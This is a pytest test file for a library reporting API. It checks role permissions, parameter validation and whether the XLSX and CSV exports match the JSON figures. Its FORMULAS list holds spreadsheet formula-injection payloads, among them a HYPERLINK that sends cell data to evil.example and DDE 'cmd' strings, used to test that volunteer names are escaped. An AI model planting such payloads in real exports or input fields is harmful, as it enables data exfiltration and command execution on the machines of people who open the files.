"""The report API: who may read it, its parameters, and the files with the same figures."""
import csv
import io

import pytest
from openpyxl import load_workbook

from tests.reports.test_figures import history  # noqa: F401 (fixture)

URL = "/api/v1/reports/summary/"
OCTOBER = {"period": "month", "year": 2026, "number": 10}


def figures(body) -> dict:
    return {row["key"]: row for row in body["figures"]}


@pytest.mark.parametrize("role", ["librarian", "coordinator"])
def test_librarians_and_coordinators_read_the_figures(api, history, role):  # noqa: F811
    response = api.as_role(role).get(URL, {**OCTOBER, "branch": history["b"].pk})
    assert response.status_code == 200
    body = response.json()
    assert body["branch"] == {"id": history["b"].pk, "name": history["b"].name}
    assert body["period"]["first_day"] == "2026-10-01"
    assert body["period"]["last_day"] == "2026-10-31"
    assert body["previous_period"]["number"] == 9
    rows = figures(body)
    assert rows["items.delivered"] | {"help": ""} == {
        "key": "items.delivered", "group": "items", "label": rows["items.delivered"]["label"],
        "value": 3, "previous": 2, "change": 1, "help": "",
    }
    assert rows[f"volunteer.{history['v1'].pk}.hours"]["value"] == 3.5
    assert rows["readers.served"]["help"]


@pytest.mark.parametrize("role", ["operator", "volunteer"])
def test_operators_and_volunteers_may_not(api, role):
    for url in (URL, "/api/v1/reports/summary.xlsx", "/api/v1/reports/summary.csv"):
        response = api.as_role(role).get(url, OCTOBER)
        assert response.status_code == 403
        assert response.json()["code"] == "permission_denied"


def test_signed_out_is_401(api, db):
    assert api.get(URL).status_code == 401


def test_whole_district_when_no_branch(api, history):  # noqa: F811
    body = api.as_role("librarian").get(URL, {**OCTOBER, "branch": ""}).json()
    assert body["branch"] is None
    assert figures(body)["readers.served"]["value"] == 5


def test_quarter_and_year(api, history):  # noqa: F811
    client = api.as_role("librarian")
    quarter = client.get(URL, {"period": "quarter", "year": 2026, "number": 4}).json()
    assert quarter["previous_period"]["label"]
    assert figures(quarter)["items.delivered"]["value"] == 5
    year = client.get(URL, {"period": "year", "year": 2026, "number": 9}).json()
    assert year["period"]["first_day"] == "2026-01-01"


def test_defaults_to_the_last_complete_month(api, db):
    body = api.as_role("librarian").get(URL).json()
    assert body["period"]["kind"] == "month"
    assert body["period"]["last_day"] < body["period"]["first_day"][:8] + "32"


@pytest.mark.parametrize("params, field", [
    ({"period": "week"}, "period"),
    ({"period": "quarter", "year": 2026, "number": 5}, "number"),
    ({"period": "month", "year": 2026, "number": 13}, "number"),
    ({"branch": 999999}, "branch"),
])
def test_bad_parameters_are_400(api, db, params, field):
    response = api.as_role("librarian").get(URL, params)
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "validation_error"
    assert field in body["fields"]


def test_in_the_openapi_schema(api, db):
    schema = api.as_role("librarian").get("/api/schema/", {"format": "json"}).json()
    paths = schema["paths"]
    summary = paths["/api/v1/reports/summary/"]["get"]
    assert summary["operationId"] == "reports_summary"
    assert "403" in summary["responses"]
    assert {p["name"] for p in summary["parameters"]} >= {"branch", "period", "year", "number"}
    assert "/api/v1/reports/summary.xlsx" in paths
    assert "/api/v1/reports/summary.csv" in paths


def test_xlsx_has_the_same_numbers_as_the_json(api, history):  # noqa: F811
    client = api.as_role("librarian")
    params = {**OCTOBER, "branch": history["b"].pk}
    body = client.get(URL, params).json()
    response = client.get("/api/v1/reports/summary.xlsx", params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "report-month-2026-10-rb.xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows[0]) == 4
    assert [list(r) for r in rows[1:]] == [
        [f["label"], f["value"], f["previous"], f["change"]] for f in body["figures"]]


def _number(text: str):
    value = float(text.replace(",", "."))
    return int(value) if value.is_integer() and "," not in text else value


def test_csv_has_the_same_numbers_as_the_json(api, history):  # noqa: F811
    client = api.as_role("librarian")
    params = {**OCTOBER, "branch": history["b"].pk}
    body = client.get(URL, params).json()
    response = client.get("/api/v1/reports/summary.csv", params)
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows[0]) == 4
    assert [[r[0], *(_number(v) for v in r[1:])] for r in rows[1:]] == [
        [f["label"], f["value"], f["previous"], f["change"]] for f in body["figures"]]
    hours = figures(body)[f"volunteer.{history['v1'].pk}.hours"]["label"]
    assert [r[1] for r in rows if r[0] == hours] == ["3,5"]  # a decimal comma in Russian


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_volunteer_named_like_a_formula_is_text_in_the_xlsx(api, history, name):  # noqa: F811
    user = history["v1"].user
    user.last_name = name
    user.save(update_fields=["last_name"])
    client = api.as_role("librarian")
    params = {**OCTOBER, "branch": history["b"].pk}
    body = client.get(URL, params).json()
    label = figures(body)[f"volunteer.{history['v1'].pk}.hours"]["label"]
    assert label.startswith(name)

    response = client.get("/api/v1/reports/summary.xlsx", params)

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    row = cells["'" + label]
    assert row[0].data_type == "s"  # a string cell, never a formula
    assert (row[1].data_type, row[1].value) == ("n", 3.5)
    # Every figure stays a number.
    assert all(c.data_type == "n" for r in sheet.iter_rows(min_row=2) for c in r[1:])


@pytest.mark.parametrize("name", FORMULAS)
def test_a_volunteer_named_like_a_formula_is_quoted_in_the_csv(api, history, name):  # noqa: F811
    user = history["v1"].user
    user.last_name = name
    user.save(update_fields=["last_name"])
    client = api.as_role("librarian")
    # November against October: the volunteer's hours went down, a negative change.
    params = {**OCTOBER, "number": 11, "branch": history["b"].pk}
    body = client.get(URL, params).json()
    label = figures(body)[f"volunteer.{history['v1'].pk}.hours"]["label"]

    response = client.get("/api/v1/reports/summary.csv", params)

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    # The label is quoted; the figures are numbers, not text: "-3,5" is written as it is.
    assert [r for r in rows if r[0].endswith(label)] == [["'" + label, "0", "3,5", "-3,5"]]
    assert not any(v.startswith("'") for r in rows[1:] for v in r[1:])
